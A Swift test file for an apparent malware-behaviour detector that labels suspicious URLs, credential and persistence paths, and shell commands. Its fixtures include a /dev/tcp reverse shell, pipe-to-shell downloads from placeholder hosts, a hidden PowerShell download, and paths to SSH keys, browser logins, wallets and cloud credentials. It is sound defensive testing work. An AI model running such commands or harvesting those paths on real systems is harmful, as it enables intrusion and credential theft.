import Testing

@testable import Behaviors

@Suite("Classes of literals")
struct LiteralTests {
    @Test(
        "suspicious texts",
        arguments: [
            ("https://discord.com/api/webhooks/1/x", "url.webhook"), ("http://185.12.33.4/a", "url.raw-ip"),
            ("https://api.telegram.org/bot1:x/sendMessage", "url.telegram"), ("https://x.ngrok.io/", "url.tunnel"),
            ("http://abc.oastify.com", "url.out-of-band"), ("https://pastebin.com/raw/x", "url.paste"),
            ("https://transfer.sh/x", "url.file-host"), ("https://raw.githubusercontent.com/a/b/c", "url.raw-git"),
            ("https://bit.ly/x", "url.shortener"), ("https://api.ipify.org?format=json", "url.ip-check"),
            ("http://169.254.169.254/latest/meta-data/", "url.metadata-address"),
            ("http://h.invalid/setup.exe", "url.payload"),
            ("http://h.invalid:4444/x", "url.odd-port"), ("https://name.xyz/", "url.odd-tld"),
            ("http://127.0.0.1:80/", "url.local"),
            ("https://bc.vercel.app/x", "url.platform-host"), ("/home/u/.ssh/id_rsa", "cred.ssh"),
            ("~/.npmrc", "cred.package-token"),
            ("\\Google\\Chrome\\User Data\\Default\\Login Data", "cred.browser"),
            ("\\discord\\Local Storage\\leveldb", "cred.discord"),
            ("\\Exodus\\exodus.wallet", "cred.wallet"), ("/etc/passwd", "cred.system"),
            ("~/.aws/credentials", "cred.cloud"),
            ("Software\\Microsoft\\Windows\\CurrentVersion\\Run", "path.registry-run"),
            ("\\Microsoft\\Windows\\Start Menu\\Programs\\Startup", "path.startup"),
            ("~/.bashrc", "path.shell-profile"),
            ("Mozilla/5.0 (Windows NT 10.0)", "lit.user-agent"), ("203.0.113.77", "lit.ip"),
            ("vmtoolsd", "lit.sandbox-words"),
            ("0x52908400098527886E0F7030069857D2E4169EE7", "lit.wallet-address"),
            ("aW1wb3J0IG9zLCBzeXMKcHJpbnQoJ2hlbGxvIHdvcmxkJyk7IHByaW50KDEyMyk=", "lit.base64"),
        ])
    func hasTheClass(_ text: String, _ name: String) {
        #expect(LiteralClasses(text).behaviors.map(\.name).contains(name), "\(LiteralClasses(text).behaviors)")
    }

    @Test(
        "ordinary texts",
        arguments: [
            "truncate the username of chat_id", "uname", "an identifier such as ncat in truncated", "chat_id", "grid",
            "valid",
            "Content-Type: application/json", "utf-8", "1.2.3", "version 10.0.0.1 of it", "hello world",
            "the cookie jar",
            "See the documentation of the module for details.", "abcdefghijklmnopqrstuvwxyz",
            "some_long_identifier_name_with_words",
            "application/vnd.openxmlformats-officedocument.wordprocessingml.document", "%Y-%m-%dT%H:%M:%S",
            "/usr/share/zoneinfo",
            "SELECT id FROM users WHERE name = ?", "discord", "session", "exodus of the users", "atomic write",
            "guarda il mare",
        ])
    func hasNoClass(_ text: String) {
        #expect(LiteralClasses(text).behaviors == [])
    }

    @Test(
        "texts that are commands or only look so",
        arguments: [
            ("curl -s https://h.invalid | sh", true), ("powershell -Command x", true), ("rm -rf /tmp/x", true),
            ("git clone https://h.invalid/r.git", true), ("curl is required for this", false),
            ("git repository of the project", false),
            ("set the value", false), ("python module", false), ("node of the tree", false), ("host name", false),
            ("make sure that it works", false), ("find the id", false), ("kill the process - then wait", false),
        ])
    func tellsCommandsFromProse(_ text: String, _ isCommand: Bool) { #expect(looksLikeCommand(text) == isCommand) }

    @Test(
        "what commands do",
        arguments: [
            ("curl -s http://h.invalid/a | bash", ["cmd.download", "cmd.shell", "shell.pipe-to-shell"]),
            ("bash -c 'whoami && id'", ["cmd.shell", "cmd.recon", "cmd.recon"]),
            ("bash -i >& /dev/tcp/203.0.113.5/4444 0>&1", ["cmd.remote-shell", "cmd.shell"]),
            (
                "powershell -WindowStyle Hidden -Command iwr http://h.invalid/x",
                ["cmd.powershell", "cmd.hidden", "cmd.download"]
            ),
            ("sudo chmod +x a", ["cmd.privilege", "cmd.permission"]), ("nohup ./run &", ["cmd.hidden", "cmd.hidden"]),
            ("cat /etc/hosts", []), ("env FOO=1 make all", ["cmd.build"]), ("npm test", []),
            ("npm install x", ["cmd.install"]),
        ])
    func readsCommands(_ text: String, _ names: [String]) {
        let found = shellFindings(in: text).compactMap { finding -> String? in
            if case .behavior(let behavior) = finding { return behavior.name }
            return nil
        }
        #expect(occursInOrder(names, in: found), "\(found)")
        if names.isEmpty { #expect(found == []) }
    }

    @Test func shellWordsKeepQuotesTogetherAndWindowsPaths() {
        let commands = ShellReader.commands(in: "a 'b c' \"d e\" f\\ g C:\\x\\y > out; h | i &")
        #expect(commands.map(\.words) == [["a", "b c", "d e", "f g", "C:\\x\\y"], ["h"], ["i"]])
        #expect(commands[0].outputs == ["out"])
        #expect(commands[2].readsPipe && commands[2].isBackground)
    }

    @Test("decoders", arguments: [("aGk=", "hi"), ("aGk", "hi"), ("a-_b", "\u{6B}")])
    func decodesBase64(_ text: String, _ expected: String) {
        let bytes = ConstantDecoding.base64(Array(text.utf8)) ?? []
        #expect(String(decoding: bytes.prefix(expected.utf8.count), as: UTF8.self).utf8.count == expected.utf8.count)
        if expected == "hi" { #expect(bytes == Array("hi".utf8)) }
    }

    @Test func decodesWideTextOfPowerShell() {
        #expect(ConstantDecoding.text(of: [0x69, 0, 0x65, 0, 0x78, 0]) == "iex")
    }

    @Test(
        "manifests",
        arguments: [
            ("{\"a\": {\"b\": \"c\\u00e9\\n\"}}", true), ("{\"a\": 1, }", false), ("[1, 2", false), ("", false),
            ("{\"a\":tru}", false),
            (String(repeating: "[", count: 10_000), false), ("\u{FEFF}{}", true), ("{\"a\":1}x", false),
        ])
    func readsJSONWithinBounds(_ text: String, _ isReadable: Bool) {
        #expect((JSONValue(parsing: Array(text.utf8)) != nil) == isReadable)
    }

    @Test func lastOfEqualKeysCounts() {
        #expect(JSONValue(parsing: Array("{\"a\":\"1\",\"a\":\"2\"}".utf8))?["a"]?.string == "2")
    }
}
